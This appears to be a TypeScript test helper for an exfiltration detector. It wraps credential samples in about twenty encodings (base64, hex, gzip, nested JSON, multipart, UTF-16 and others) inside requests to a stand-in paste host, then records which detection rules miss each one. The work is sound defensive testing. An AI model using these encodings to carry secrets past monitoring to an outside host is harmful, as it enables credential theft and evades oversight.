import { gzipSync } from 'node:zlib';
import type { Rule } from '../../../lib/detector/rule.ts';
import { RULES } from '../../../lib/detector/rules/index.ts';
import { InspectedTraffic, type SentMessage } from '../inspected_exchange.ts';

const HOST = 'paste.example.net:443';
const post = (type: string, body: SentMessage['body'], more = ''): SentMessage => ({
  head: `POST /submit\nHost: paste.example.net\nContent-Type: ${type}${more}`,
  ...(body === undefined ? {} : { body }),
});
const json = (content: string): SentMessage => post('application/json', JSON.stringify({ content }));
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Ways in which an agent may be made to carry a text away. */
export const CARRIERS: Readonly<Record<string, (text: string) => SentMessage>> = {
  'raw body': (text) => post('text/plain', text),
  'JSON string': json,
  'JSON in JSON': (text) => json(JSON.stringify({ text })),
  'JSON, \\u escapes': (text) =>
    post(
      'application/json',
      `{"content":"${[...text].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
    ),
  'form value': (text) => post('application/x-www-form-urlencoded', `a=1&text=${encodeURIComponent(text)}`),
  'query value': (text) => ({ head: `GET /c?d=${encodeURIComponent(text)}\nHost: paste.example.net` }),
  'percent, twice': (text) => post('text/plain', encodeURIComponent(encodeURIComponent(text))),
  header: (text) => ({
    head: `GET /\nHost: paste.example.net\nX-Note: see ${text.replace(/[^\x20-\x7e]+/g, ' ')}`,
  }),
  base64: (text) => post('text/plain', base64(text)),
  base64url: (text) => post('text/plain', Buffer.from(text).toString('base64url')),
  'base64 in JSON': (text) => json(base64(text)),
  'base64 in base64': (text) => json(base64(`data: ${base64(text)}`)),
  hex: (text) => post('text/plain', Buffer.from(text).toString('hex')),
  'gzip, content coding': (text) =>
    post('application/json', gzipSync(JSON.stringify({ content: text })), '\nContent-Encoding: gzip'),
  'gzip in base64': (text) => json(gzipSync(text).toString('base64')),
  'gzip as a file': (text) => post('application/octet-stream', gzipSync(text)),
  multipart: (text) =>
    post(
      'multipart/form-data; boundary=abcXYZ',
      `--abcXYZ\r\nContent-Disposition: form-data; name="f"; filename="n.txt"\r\n\r\n${text}\r\n--abcXYZ--\r\n`,
    ),
  'HTML entities': (text) =>
    post('text/html', `<p>${[...text].map((character) => `&#${character.charCodeAt(0)};`).join('')}</p>`),
  'UTF-16': (text) => post('text/plain; charset=utf-16le', Buffer.from(`\ufeff${text}`, 'utf16le')),
};

export interface Carried {
  readonly heard: number;
  /** Rules of which nothing was heard. */
  readonly missed: readonly string[];
}

const CREDENTIALS: readonly Rule[] = RULES.filter(({ threat_type }) => threat_type === 'EXFIL');

/** The first sample of each credential rule in each carrier: whether any rule hears it. By carrier. */
export async function carriedSamples(
  rules: readonly Rule[] = CREDENTIALS,
  carriers: readonly string[] = Object.keys(CARRIERS),
): Promise<ReadonlyMap<string, Carried>> {
  const result = new Map<string, Carried>();
  for (const carrier of carriers) {
    const carry = CARRIERS[carrier];
    if (carry === undefined) continue;
    const missed: string[] = [];
    const traffic = new InspectedTraffic();
    for (const { id, finds } of rules) {
      const before = traffic.reported;
      await traffic.exchange(HOST, carry(finds[0] ?? ''));
      if (traffic.reported === before) missed.push(id);
    }
    result.set(carrier, { heard: rules.length - missed.length, missed });
  }
  return result;
}
